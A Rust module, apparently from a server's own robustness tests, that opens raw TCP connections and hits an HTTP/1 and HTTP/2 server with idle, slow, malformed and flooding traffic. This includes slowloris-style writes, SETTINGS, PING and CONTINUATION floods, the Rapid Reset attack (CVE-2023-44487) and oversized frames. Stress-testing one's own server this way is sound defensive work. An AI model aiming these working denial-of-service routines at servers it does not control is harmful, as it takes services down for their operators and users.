//! Raw connections: idle ones, slow ones, and nonsense in HTTP/1 and HTTP/2.

use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::rng::Rng;

/// How long connections are held that ask for nothing.
pub(super) const HOLD: Duration = Duration::from_secs(6);
/// Connections that ask for nothing.
const IDLE: usize = 100;
/// A write or a read that takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(1);
/// Frames of a flood.
const FLOOD: usize = 20_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The kinds of a frame of HTTP/2 (RFC 9113, section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A way to misuse a connection.
type Misuse = fn(&mut TcpStream) -> io::Result<()>;

const MISUSES: [Misuse; 11] = [
    half_open,
    byte_by_byte,
    headers_of_http_1_without_end,
    garbage,
    preface_then_garbage,
    settings_flood,
    ping_flood,
    headers_without_end,
    rapid_reset,
    frame_of_16_megabytes,
    window_overflow,
];

/// Attacks a server at `http://host:port`.
pub(super) fn attack(address: &str, hold: Duration) {
    let authority = address.trim_start_matches("http://");
    let began = Instant::now();
    let idle: Vec<_> = (0..IDLE).filter_map(|_| TcpStream::connect(authority).ok()).collect();
    for misuse in MISUSES {
        if let Ok(mut stream) = TcpStream::connect(authority) {
            stream.set_write_timeout(Some(PATIENCE)).unwrap();
            stream.set_read_timeout(Some(PATIENCE)).unwrap();
            // The server closes the connection, or a timeout ends the attempt.
            let _ = misuse(&mut stream).and_then(|()| stream.read(&mut [0; 1 << 16]));
        }
    }
    #[expect(clippy::disallowed_methods, reason = "the attack lasts for a time")]
    thread::sleep(hold.saturating_sub(began.elapsed()));
    drop(idle);
}

fn half_open(stream: &mut TcpStream) -> io::Result<()> {
    stream.shutdown(Shutdown::Write)
}

fn byte_by_byte(stream: &mut TcpStream) -> io::Result<()> {
    for byte in PREFACE {
        stream.write_all(&[*byte])?;
        #[expect(clippy::disallowed_methods, reason = "the bytes come slowly")]
        thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

fn headers_of_http_1_without_end(stream: &mut TcpStream) -> io::Result<()> {
    stream.write_all(b"GET / HTTP/1.1\r\n")?;
    for number in 0..FLOOD {
        write!(stream, "x-{number}: {}\r\n", "x".repeat(100))?;
    }
    Ok(())
}

fn garbage(stream: &mut TcpStream) -> io::Result<()> {
    stream.write_all(&Rng::new(1).bytes(1 << 20))
}

fn preface_then_garbage(stream: &mut TcpStream) -> io::Result<()> {
    stream.write_all(PREFACE)?;
    garbage(stream)
}

fn settings_flood(stream: &mut TcpStream) -> io::Result<()> {
    flood(stream, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]))
}

fn ping_flood(stream: &mut TcpStream) -> io::Result<()> {
    flood(stream, |_| frame(PING, 0, 0, &[7; 8]))
}

/// A list of headers that goes on for ever.
fn headers_without_end(stream: &mut TcpStream) -> io::Result<()> {
    begin(stream)?;
    stream.write_all(&frame(HEADERS, 0, 1, &request()))?;
    let header = [&[0x40, 1, b'x', 100][..], &[b'x'; 100]].concat();
    flood_on(stream, |_| frame(CONTINUATION, 0, 1, &header))
}

/// Requests that are taken back at once (CVE-2023-44487).
fn rapid_reset(stream: &mut TcpStream) -> io::Result<()> {
    flood(stream, |number| {
        let id = 2 * number as u32 + 1;
        let open = frame(HEADERS, END_HEADERS, id, &request());
        [open, frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
    })
}

fn frame_of_16_megabytes(stream: &mut TcpStream) -> io::Result<()> {
    begin(stream)?;
    stream.write_all(&frame(HEADERS, END_HEADERS, 1, &request()))?;
    stream.write_all(&[0xFF, 0xFF, 0xFF, DATA, END_STREAM, 0, 0, 0, 1])?;
    stream.write_all(&vec![0; 1 << 24])
}

fn window_overflow(stream: &mut TcpStream) -> io::Result<()> {
    flood(stream, |_| frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFFu32.to_be_bytes()))
}

/// Begins a connection, and sends many frames.
fn flood(stream: &mut TcpStream, frame: impl Fn(usize) -> Vec<u8>) -> io::Result<()> {
    begin(stream)?;
    flood_on(stream, frame)
}

fn flood_on(stream: &mut TcpStream, frame: impl Fn(usize) -> Vec<u8>) -> io::Result<()> {
    for first in (0..FLOOD).step_by(100) {
        let frames: Vec<u8> = (first..first + 100).flat_map(&frame).collect();
        stream.write_all(&frames)?;
    }
    Ok(())
}

fn begin(stream: &mut TcpStream) -> io::Result<()> {
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a POST of `/`, compressed (RFC 7541, appendix A): `:method POST`, `:scheme http`,
/// `:path /`, and an `:authority`.
fn request() -> Vec<u8> {
    vec![0x83, 0x86, 0x84, 0x01, 0x01, b'x']
}
